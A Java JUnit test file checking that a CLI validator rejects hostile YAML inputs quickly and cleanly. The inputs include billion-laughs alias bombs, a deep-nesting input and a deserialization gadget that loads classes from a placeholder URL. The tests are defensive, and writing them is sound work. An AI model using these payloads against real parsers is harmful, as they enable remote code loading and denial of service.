package dev.acepipe.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile files: each gives a located diagnostic with the expected code and exit 3 within a second,
 * never a stack trace.
 */
class HostileInputTest {
  @TempDir Path dir;

  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  private int validate(Path file) {
    return new Main(
            new PrintWriter(out), new PrintWriter(err), new ByteArrayInputStream(new byte[0]))
        .run("validate", file.toString());
  }

  private void assertRejectedQuickly(Path file, String code) {
    long start = System.nanoTime();

    int exit = validate(file);

    Duration took = Duration.ofNanos(System.nanoTime() - start);
    assertThat(exit).isEqualTo(ExitCodes.INVALID);
    assertThat(took).isLessThan(Duration.ofSeconds(1));
    assertThat(out.toString()).startsWith("✘ ");
    assertThat(err.toString())
        .contains("error[" + code + "]")
        .doesNotContain("Exception")
        .doesNotContain("\tat ");
  }

  @Test
  void billionLaughsIsRejectedAsUnsafe() throws IOException {
    StringBuilder y =
        new StringBuilder(
            "version: 1\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char prev = 'a';
    for (char c = 'b'; c <= 'i'; c++) {
      y.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        y.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      y.append("]\n");
      prev = c;
    }
    y.append("steps:\n  s:\n    type: generate\n    extra: {x: *i}\n");
    Path file = write("laughs.yaml", y.toString());

    assertRejectedQuickly(file, "unsafe-yaml");
  }

  @Test
  void fewAliasesThatStillExpandHugelyAreRejected() throws IOException {
    // 2 aliases per level stays under the alias limit, but 2^24 nodes after expansion
    StringBuilder y = new StringBuilder("version: 1\nl0: &l0 [x, y]\n");
    for (int i = 1; i <= 24; i++) {
      y.append("l")
          .append(i)
          .append(": &l")
          .append(i)
          .append(" [*l")
          .append(i - 1)
          .append(", *l")
          .append(i - 1)
          .append("]\n");
    }
    y.append("steps:\n  s: {type: generate}\n");
    Path file = write("doubling.yaml", y.toString());

    assertRejectedQuickly(file, "unsafe-yaml");
  }

  @Test
  void javaTagIsRejectedAsUnsafe() throws IOException {
    Path file =
        write(
            "tag.yaml",
            "version: 1\nsteps:\n  s: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n");

    assertRejectedQuickly(file, "unsafe-yaml");
  }

  @Test
  void tenMegabyteFileIsRejectedAsTooLarge() throws IOException {
    Path file = dir.resolve("big.yaml");
    byte[] line =
        "# padding padding padding padding padding padding padding padding padding padding\n"
            .getBytes(StandardCharsets.UTF_8);
    try (var o = Files.newOutputStream(file)) {
      for (int written = 0; written < 10 * 1024 * 1024; written += line.length) {
        o.write(line);
      }
    }

    assertRejectedQuickly(file, "too-large");
  }

  @Test
  void binaryGarbageIsRejectedAsSyntax() throws IOException {
    byte[] bytes = new byte[64 * 1024];
    new Random(42).nextBytes(bytes);
    Path file = dir.resolve("garbage.yaml");
    Files.write(file, bytes);

    assertRejectedQuickly(file, "yaml-syntax");
  }

  @Test
  void controlCharactersInUtf8AreRejectedAsSyntax() throws IOException {
    Path file = write("nul.yaml", "version: 1\nsteps:\n  a:\n    type: gen\u0000erate\n");

    assertRejectedQuickly(file, "yaml-syntax");
    assertThat(err.toString()).contains("nul.yaml:4:");
  }

  @Test
  void emptyFileIsRejectedAsMissingFields() throws IOException {
    Path file = write("empty.yaml", "");

    assertRejectedQuickly(file, "missing-field");
  }

  @Test
  void recursiveAliasIsRejected() throws IOException {
    Path file =
        write(
            "recursive.yaml",
            "version: 1\nsteps:\n  a: &a\n    type: generate\n    extra: {self: *a}\n");

    int exit = validate(file);

    assertThat(exit).isEqualTo(ExitCodes.INVALID);
    assertThat(err.toString()).contains("error[").doesNotContain("Exception");
  }

  @Test
  void deeplyNestedListsAreRejected() throws IOException {
    Path file =
        write("deep.yaml", "version: 1\nsteps: " + "[".repeat(5000) + "]".repeat(5000) + "\n");

    assertRejectedQuickly(file, "unsafe-yaml");
  }

  private Path write(String name, String text) throws IOException {
    Path file = dir.resolve(name);
    Files.writeString(file, text);
    return file;
  }
}
